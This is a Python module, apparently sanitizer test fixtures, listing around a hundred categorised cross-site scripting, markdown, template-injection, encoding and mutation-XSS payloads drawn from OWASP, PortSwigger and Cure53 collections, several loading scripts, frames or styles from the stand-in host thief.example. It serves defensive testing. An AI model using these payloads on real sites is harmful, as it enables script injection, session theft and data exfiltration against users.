r"""Words that try to become a program in the page that shows them, in our own wording.

The classes are those of public collections: the OWASP Cross Site Scripting Prevention and XSS Filter Evasion cheat
sheets, the PortSwigger XSS cheat sheet (events and tags), the Cure53 work on mutation XSS (Heiderich et al., "mXSS
attacks", CCS 2013) and on DOMPurify, the markdown cases of CommonMark's own security notes, and the Unicode reports
TR36 and TR39. Every one that runs calls ``planted``, opens a dialog, asks ``thief.example``, or leaves an element with
the attribute ``planted``.
"""

_RUN = "planted(1)"

TAGS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<script\n>{_RUN}</script\n>",
    "<script src=https://thief.example/1.js></script>",
    "<script src=//thief.example/2.js></script>",
    f"<script type=module>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "<iframe src=https://thief.example/3></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "<object data=https://thief.example/4></object>",
    "<embed src=https://thief.example/5>",
    "<base href=https://thief.example/>",
    "<meta http-equiv=refresh content='0;url=https://thief.example/6'>",
    "<link rel=stylesheet href=https://thief.example/7.css>",
    "<form action=https://thief.example/8><button planted>OK</button></form>",
    "<template planted><b>x</b></template><b planted>bold</b>",
    "<plaintext planted>",
)
ATTRIBUTES = (
    f'" onmouseover="{_RUN}" planted="',
    f"' onfocus='{_RUN}' autofocus planted='",
    f" onfocus={_RUN} autofocus planted ",
    f"` onerror=`{_RUN}` planted=`",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg onload='{_RUN}'>",
    f"/><img/src/onerror={_RUN}>",
    '" style="background:url(https://thief.example/9)" planted="',
    f'"><input autofocus onfocus={_RUN}>',
    f'"></textarea></select></title></option><img src=x onerror={_RUN}>',
)
EVENTS = (
    f"<img src=x onerror={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<body onload={_RUN}><body onpageshow={_RUN}>",
    f"<input onfocus={_RUN} autofocus><select autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<style>@keyframes p{{}}</style><b style=animation-name:p onanimationstart={_RUN}>x</b>",
    f"<img src=x oNeRrOr\t=\n{_RUN}>",
    f"<img src=x onerror\x0b={_RUN}><img src=x on\x00error={_RUN}>",
)
DRAWN = (
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=9>x</text></a></svg>",
    "<svg><use href='https://thief.example/10.svg#a'/></svg>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<math><mtext planted></mtext><maction actiontype=statusline href='javascript:{_RUN}'>x</maction></math>",
    f"</title></desc></svg><svg onload='{_RUN}'>",
)
ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"&#106;avascript&colon;{_RUN}",
    f"<a planted href='javascript:{_RUN}'>x</a>",
    f"<a planted href='data:text/html,<script>{_RUN}</script>'>x</a>",
    f"<a planted href='\x01javascript:{_RUN}'>x</a>",
    f"vbscript:{_RUN}",
    "//thief.example/11",
)
MARKDOWN = (
    f"[x](javascript:{_RUN})",
    f"[x](JAVASCRIPT&colon;{_RUN})",
    f"[x](data:text/html;base64,PHNjcmlwdD4= '{_RUN}')",
    "![x](https://thief.example/12.png)",
    f'[x](https://a.example/"onmouseover="{_RUN}"planted=")',
    f"[x](https://a.example/ '\"><img src=x onerror={_RUN}>')",
    f"<javascript:{_RUN}>",
    f"[<img src=x onerror={_RUN}>](https://a.example/)",
    f"`<img src=x onerror={_RUN}>`",
    f"[x]\n\n[x]: javascript:{_RUN}",
)
TEMPLATES = (
    "{{ 7191 * 7193 }}",
    "{% raw %}{% endraw %}<b planted>{{ self.__init__.__globals__ }}</b>",
    "${7191 * 7193} #{7191 * 7193} <%= 7191 * 7193 %>",
    "%(planted)s {planted} %s {0} {0.__class__}",
)
SCRIPTS = (
    f"</script><script>{_RUN}</script>",
    f"'-{_RUN}-'",
    f'";{_RUN};//',
    f"\\';{_RUN};//",
    f"${{{_RUN}}}`-{_RUN}-`",
    f'{{"a": "</script><img src=x onerror={_RUN}>"}}',
    f"<!--<script>{_RUN}//-->",
    f"\N{LINE SEPARATOR}{_RUN}\N{PARAGRAPH SEPARATOR}{_RUN}",
)
STYLES = (
    "</style><style>body{background:url(https://thief.example/13)}</style>",
    "<b planted style='background-image:url(https://thief.example/14)'>x</b>",
    "}*{background:url(https://thief.example/15)}",
    "expression(planted(1))",
)
ENTITIES = (
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"&#x3c;script&#x3e;{_RUN}&#x3c;/script&#x3e;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    f"&amp;lt;img src=x onerror={_RUN}&amp;gt;",
)
LETTERS = (
    f"\N{FULLWIDTH LESS-THAN SIGN}img src=x onerror={_RUN}\N{FULLWIDTH GREATER-THAN SIGN}",
    f"\N{SINGLE LEFT-POINTING ANGLE QUOTATION MARK}script\N{SINGLE RIGHT-POINTING ANGLE QUOTATION MARK}{_RUN}",
    f"\N{RIGHT-TO-LEFT OVERRIDE}<img src=x onerror={_RUN}>\N{POP DIRECTIONAL FORMATTING}",
    f"<\N{ZERO WIDTH SPACE}script>{_RUN}</script>\N{ZERO WIDTH NO-BREAK SPACE}",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"<scr\u0131pt>{_RUN}</scr\u0131pt><\u017fcript>{_RUN}</\u017fcript>",
    f"\u0160cript <img src=x onerror={_RUN} \U0001f9f5\u0308",
)
#: What a second reading of the same markup turns into something else.
MUTATIONS = (
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_RUN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={_RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    f"<table><td background=https://thief.example/16><![CDATA[><img src=x onerror={_RUN}>]]>",
    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'></xmp>",
    f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]--><?xml <img src=x onerror={_RUN}>?>",
)
PAYLOADS = (
    *TAGS, *ATTRIBUTES, *EVENTS, *DRAWN, *ADDRESSES, *MARKDOWN, *TEMPLATES, *SCRIPTS, *STYLES, *ENTITIES, *LETTERS,
    *MUTATIONS,
)  # fmt: skip
